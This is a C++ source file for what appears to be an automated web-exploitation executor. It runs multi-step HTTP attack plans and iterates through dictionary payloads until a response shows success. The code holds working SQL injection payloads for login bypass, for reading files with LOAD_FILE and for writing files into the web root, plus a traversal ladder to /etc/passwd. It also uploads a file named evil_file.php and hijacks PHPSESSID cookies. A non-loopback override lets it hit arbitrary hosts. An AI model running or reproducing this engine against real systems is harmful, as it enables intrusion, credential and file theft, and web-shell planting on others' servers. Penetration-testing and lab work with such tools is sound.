// Plan execution over HTTP. Each action tries dictionary payloads until the
// response carries the expected marker (and, on the final action, the
// evidence pattern); injected queries and traversal values iterate together,
// trying files planted by earlier actions before the generic ladder.
#include "dywa/executor.hpp"

#include <fstream>
#include <optional>
#include <regex>
#include <sstream>

#include "httplib.h"

namespace dywa {

namespace {

struct ParsedUrl {
  std::string scheme;
  std::string host;
  std::string port;
  std::string path;  // with query, "/" when absent
};

std::optional<ParsedUrl> parse_url(const std::string& url) {
  size_t scheme_end = url.find("://");
  if (scheme_end == std::string::npos || scheme_end == 0) return std::nullopt;
  ParsedUrl p;
  p.scheme = url.substr(0, scheme_end);
  size_t host_start = scheme_end + 3;
  size_t path_start = url.find('/', host_start);
  std::string authority = url.substr(
      host_start, path_start == std::string::npos ? std::string::npos : path_start - host_start);
  if (authority.empty()) return std::nullopt;
  p.path = path_start == std::string::npos ? "/" : url.substr(path_start);
  size_t colon = authority.rfind(':');
  if (colon != std::string::npos && authority.find(']') == std::string::npos) {
    p.host = authority.substr(0, colon);
    p.port = authority.substr(colon + 1);
  } else {
    p.host = authority;
  }
  return p;
}

std::string base_of(const ParsedUrl& p) {
  return "http://" + p.host + (p.port.empty() ? "" : ":" + p.port);
}

void replace_all(std::string& text, const std::string& what, const std::string& with) {
  for (size_t pos = text.find(what); pos != std::string::npos; pos = text.find(what, pos)) {
    text.replace(pos, what.size(), with);
    pos += with.size();
  }
}

std::string basename_of(const std::string& path) {
  size_t slash = path.find_last_of("/\\");
  return slash == std::string::npos ? path : path.substr(slash + 1);
}

std::string slurp(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in.good()) return "";
  std::ostringstream buf;
  buf << in.rdbuf();
  return buf.str();
}

}  // namespace

std::string to_text(step_outcome o) {
  switch (o) {
    case step_outcome::exploited:
      return "exploited";
    case step_outcome::not_exploitable:
      return "not_exploitable";
    case step_outcome::check_failed:
      return "check_failed";
    case step_outcome::network_error:
      return "network_error";
  }
  return "check_failed";
}

const std::vector<std::string>& injection_payloads(const std::string& objective) {
  static const std::vector<std::string> auth{
      "' OR '1'='1'-- -",
      "' OR 1=1#",
      "admin'-- -",
  };
  static const std::vector<std::string> read_file{
      "' UNION ALL SELECT LOAD_FILE('{path}')-- -",
      "' UNION SELECT LOAD_FILE('{path}'), NULL-- -",
  };
  static const std::vector<std::string> write_file{
      "' UNION SELECT '{content}' INTO OUTFILE '/var/www/html/{name}'-- -",
      "' UNION SELECT '{content}' INTO DUMPFILE '/var/www/html/{name}'-- -",
  };
  if (objective == "read_file") return read_file;
  if (objective == "write_file") return write_file;
  return auth;
}

const std::vector<std::string>& traversal_candidates() {
  static const std::vector<std::string> ladder{
      "/etc/passwd",
      "../etc/passwd",
      "../../etc/passwd",
      "../../../etc/passwd",
      "../../../../etc/passwd",
      "..%2f..%2f..%2f..%2fetc%2fpasswd",
  };
  return ladder;
}

const std::string& canned_upload_content() {
  static const std::string content = "dywa-upload-canary";
  return content;
}

bool is_loopback_host(const std::string& host) {
  if (host == "localhost" || host == "::1" || host == "[::1]") return true;
  return host.rfind("127.", 0) == 0;
}

ExecutionResult execute_plan(const AttackPlan& plan, const ExecutionOptions& options) {
  ExecutionResult result;
  if (plan.actions.empty()) {
    result.error = "plan has no actions";
    result.failed_action = 0;
    return result;
  }

  // resolve every URL and apply the host policy before any request is sent
  std::string override_base;
  if (!options.target.empty()) {
    auto target = parse_url(options.target);
    if (!target || target->scheme != "http") {
      result.error = "target must be an http:// URL";
      return result;
    }
    if (!is_loopback_host(target->host) && !options.acknowledge_non_loopback) {
      result.error = "refusing non-loopback target '" + target->host +
                     "'; pass the acknowledge flag to override";
      return result;
    }
    override_base = base_of(*target);
  }

  struct Resolved {
    std::string base;
    std::string path;
  };
  std::vector<Resolved> where;
  for (const HttpAction& action : plan.actions) {
    auto parsed = parse_url(action.url);
    if (!parsed) {
      result.error = "action url '" + action.url + "' is not an absolute URL";
      return result;
    }
    if (!override_base.empty()) {
      where.push_back({override_base, parsed->path});
      continue;
    }
    if (parsed->scheme != "http") {
      result.error = "action url '" + action.url +
                     "' is not plain http; point the target option at an http endpoint";
      return result;
    }
    if (!is_loopback_host(parsed->host) && !options.acknowledge_non_loopback) {
      result.error = "refusing non-loopback host '" + parsed->host +
                     "'; pass the acknowledge flag to override";
      return result;
    }
    where.push_back({base_of(*parsed), parsed->path});
  }

  std::regex evidence_regex;
  bool want_evidence = !plan.evidence_pattern.empty();
  if (want_evidence) evidence_regex = std::regex(plan.evidence_pattern);

  std::string session_value;
  std::vector<std::string> planted;  // newest first, tried before the ladder

  for (size_t idx = 0; idx < plan.actions.size(); ++idx) {
    const HttpAction& action = plan.actions[idx];
    bool final_action = idx + 1 == plan.actions.size();

    std::string objective = "auth";
    bool has_injection = false;
    bool has_traversal = false;
    std::string upload_name;
    std::string upload_content;
    for (const auto& [field, value] : action.params) {
      switch (value.k) {
        case ParamValue::kind::sqli_inject:
          has_injection = true;
          if (!value.objective.empty()) objective = value.objective;
          break;
        case ParamValue::kind::fsi_fuzz:
          has_traversal = true;
          break;
        case ParamValue::kind::upload_file:
          if (upload_name.empty()) {
            upload_name = value.text.empty() ? "evil_file.php" : basename_of(value.text);
            upload_content = slurp(value.text);
            if (upload_content.empty()) upload_content = canned_upload_content();
          }
          break;
        default:
          break;
      }
    }

    std::vector<std::string> injections =
        has_injection ? injection_payloads(objective) : std::vector<std::string>{""};
    std::vector<std::string> traversals{""};
    if (has_traversal) {
      traversals = planted;
      for (const std::string& rung : traversal_candidates()) traversals.push_back(rung);
    }

    httplib::Client client(where[idx].base);
    client.set_connection_timeout(options.timeout_ms / 1000,
                                  (options.timeout_ms % 1000) * 1000);
    client.set_read_timeout(options.timeout_ms / 1000, (options.timeout_ms % 1000) * 1000);

    StepResult step;
    step.action = static_cast<int>(idx);
    step.url = where[idx].base + where[idx].path;
    bool exploited = false;
    bool denied = false;
    int last_status = 0;

    for (const std::string& injection : injections) {
      for (const std::string& traversal : traversals) {
        std::string query = injection;
        replace_all(query, "{path}", traversal.empty() ? "/etc/passwd" : traversal);
        replace_all(query, "{name}", upload_name.empty() ? "evil_file.php" : upload_name);
        replace_all(query, "{content}", upload_content);

        httplib::Params params;
        httplib::MultipartFormDataItems items;
        for (const auto& [field, value] : action.params) {
          std::string text;
          switch (value.k) {
            case ParamValue::kind::literal:
              text = value.text;
              break;
            case ParamValue::kind::sqli_inject:
              text = query;
              break;
            case ParamValue::kind::fsi_fuzz:
              text = traversal;
              break;
            case ParamValue::kind::upload_file:
              text = upload_content;
              break;
            case ParamValue::kind::runtime_var:
              text = session_value;
              break;
          }
          if (action.multipart) {
            httplib::MultipartFormData item;
            item.name = field;
            item.content = text;
            if (value.k == ParamValue::kind::upload_file) {
              item.filename = upload_name;
              item.content_type = "application/octet-stream";
            }
            items.push_back(item);
          } else {
            params.emplace(field, text);
          }
        }

        httplib::Headers headers;
        std::string cookie_header;
        for (const auto& [name, value] : action.cookies) {
          std::string text =
              value.k == ParamValue::kind::runtime_var ? session_value : value.text;
          if (!cookie_header.empty()) cookie_header += "; ";
          cookie_header += name + "=" + text;
        }
        if (!cookie_header.empty()) headers.emplace("Cookie", cookie_header);

        httplib::Result res(nullptr, httplib::Error::Unknown);
        if (action.method == "GET") {
          res = client.Get(httplib::append_query_params(where[idx].path, params), headers);
        } else if (action.method == "PUT") {
          res = client.Put(where[idx].path, headers, params);
        } else if (action.multipart) {
          res = client.Post(where[idx].path, headers, items);
        } else {
          res = client.Post(where[idx].path, headers, params);
        }

        if (!res) {
          step.outcome = step_outcome::network_error;
          step.note = httplib::to_string(res.error());
          result.steps.push_back(step);
          result.failed_action = static_cast<int>(idx);
          return result;
        }

        last_status = res->status;
        const std::string& body = res->body;
        bool marker_ok = action.check.empty() || body.find(action.check) != std::string::npos;
        bool evidence_ok = true;
        std::string found;
        if (final_action && want_evidence) {
          std::smatch match;
          evidence_ok = std::regex_search(body, match, evidence_regex);
          if (evidence_ok) found = match.str();
        }

        if (marker_ok && evidence_ok) {
          exploited = true;
          step.outcome = step_outcome::exploited;
          step.status = res->status;
          step.payload = has_injection ? query : traversal;
          if (action.capture_session) {
            std::string set_cookie = res->get_header_value("Set-Cookie");
            size_t pos = set_cookie.find("PHPSESSID=");
            if (pos != std::string::npos) {
              pos += 10;
              size_t end = set_cookie.find(';', pos);
              session_value = set_cookie.substr(
                  pos, end == std::string::npos ? std::string::npos : end - pos);
            }
          }
          if (!upload_name.empty() || objective == "write_file") {
            planted.insert(planted.begin(),
                           upload_name.empty() ? "evil_file.php" : upload_name);
          }
          if (final_action) result.evidence = want_evidence ? found : action.check;
          break;
        }
        if (body.find("Access denied") != std::string::npos) denied = true;
      }
      if (exploited) break;
    }

    if (!exploited) {
      step.status = last_status;
      if (denied) {
        step.outcome = step_outcome::not_exploitable;
        step.note = "the target denied the operation for every payload";
      } else {
        step.outcome = step_outcome::check_failed;
        step.note = "no payload produced the expected response";
      }
      result.steps.push_back(step);
      result.failed_action = static_cast<int>(idx);
      return result;
    }
    result.steps.push_back(step);
  }

  result.goal_reached = true;
  return result;
}

}  // namespace dywa
